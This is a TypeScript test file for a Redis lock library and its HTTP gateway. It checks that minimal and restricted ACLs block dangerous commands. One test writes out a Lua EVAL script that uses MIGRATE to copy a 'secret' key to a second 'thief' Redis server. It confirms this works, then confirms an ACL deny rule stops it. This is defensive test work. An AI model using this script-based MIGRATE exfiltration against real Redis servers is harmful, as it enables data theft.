import { Redis } from 'ioredis'
import { expect, test } from 'vitest'
import { Redlock } from '../../src/index.ts'
import { ioredisBackend } from '../../tools/servers/ioredis.ts'
import { startRedis } from '../../tools/servers/redis.ts'
import { openEvents } from './streams.ts'
import { startGateway, token } from './support.ts'

// The permissions that the lock needs, as documented in docs/security.md.
const minPermissions =
  '~lock:* +@connection +eval +evalsha +time +info +get +set +setnx +del +exists +pttl'.split(' ')

test('the lock works with an ACL user that has only the documented permissions', async () => {
  const redis = await startRedis()
  const admin = new Redis({ host: '127.0.0.1', port: redis.port })
  await admin.call('ACL', 'SETUSER', 'default', 'reset', 'on', 'nopass', ...minPermissions)
  const backend = ioredisBackend({ host: '127.0.0.1', port: redis.port })
  const server = await startGateway({ ...backend, allow: ['EVAL', 'EVALSHA'] })
  try {
    const node = { url: server.url, token, volatile: true }
    const redlock = new Redlock({ nodes: [node] })
    // A new volatile node is quarantined, which it reports at the end of the script.
    const refusal = await redlock.tryAcquire('report')
    expect(refusal).toMatchObject({ reason: 'unavailable', nodes: [{ status: 'quarantined' }] })

    const lasting = new Redlock({ nodes: [{ url: server.url, token }] })
    const lock = await lasting.acquire('report')
    await lock.extend()
    expect(await lock.fence()).toBeGreaterThan(0)
    expect((await lasting.tryAcquire('report')).ok).toBe(false)
    expect(await lock.release()).toBe('released')
    expect((await lasting.throttle('submit', { window: 1000 })).ok).toBe(true)

    for (const [name, ...args] of [['GET', 'other'], ['KEYS', '*'], ['FLUSHALL']]) {
      const script = `return redis.call(${[name, ...args].map((word) => `'${word}'`).join()})`
      const [status, answer] = await server.post('/', ['EVAL', script, 0])
      expect([status, JSON.stringify(answer)]).toEqual([
        400,
        expect.stringMatching(/permission|can't (?:run|access)|NOPERM/i),
      ])
    }
    expect((await server.post('/', ['GET', 'lock:l:report']))[0]).toBe(400)
  } finally {
    await server.close()
    await backend.close()
    admin.disconnect()
    await redis.stop()
  }
})

// The permissions of a gateway for any application, as documented in docs/security.md.
const dataPermissions = '~* &* +@all -@admin -migrate -restore'.split(' ')

const migrate = "return redis.call('MIGRATE', ARGV[1], ARGV[2], KEYS[1], 0, 1000, 'COPY')"

test('a script sends data to another server, unless an ACL forbids it', async () => {
  const redis = await startRedis()
  const thief = await startRedis()
  const admin = new Redis({ host: '127.0.0.1', port: redis.port })
  const stolen = new Redis({ host: '127.0.0.1', port: thief.port })
  const backend = ioredisBackend({ host: '127.0.0.1', port: redis.port })
  const server = await startGateway(backend)
  try {
    const steal = ['EVAL', migrate, 1, 'secret', '127.0.0.1', thief.port]
    await admin.set('secret', 'x')
    expect(
      (await server.post('/', ['MIGRATE', '127.0.0.1', thief.port, 'secret', 0, 1000]))[0],
    ).toBe(400)
    expect(await server.post('/', steal)).toEqual([200, { result: 'OK' }])
    expect(await stolen.get('secret')).toBe('x')

    await stolen.flushall()
    await admin.call('ACL', 'SETUSER', 'default', 'reset', 'on', 'nopass', ...dataPermissions)
    const refused = [400, { error: expect.stringMatching(/permission|can't (?:run|access)/i) }]
    expect(await server.post('/', steal)).toEqual(refused)
    expect(await server.post('/pipeline', [steal])).toEqual([200, [refused[1]]])
    expect(await stolen.dbsize()).toBe(0)
    for (const command of ['RESTORE', 'BGSAVE', 'SLOWLOG']) {
      const status = (await server.post('/', [command, 'a', '0', 'b']))[0]
      expect([command, status]).toEqual([command, 400])
    }

    // The commands that an application needs still work.
    const upstash = server.upstash()
    expect(await upstash.set('a', 1)).toBe('OK')
    expect(await upstash.multi().incr('a').get('a').exec()).toEqual([2, 2])
    expect(await upstash.eval("return redis.call('GET', KEYS[1])", ['a'], [])).toBe(2)
    const events = await openEvents(server, '/subscribe/chat')
    expect(await upstash.publish('chat', 'hello')).toBe(1)
    expect(await events.event(1)).toBe('message,chat,hello')
    events.leave()
    expect(await upstash.flushall()).toBe('OK')
  } finally {
    await server.close()
    await backend.close()
    admin.disconnect()
    stolen.disconnect()
    await thief.stop()
    await redis.stop()
  }
}, 20_000)
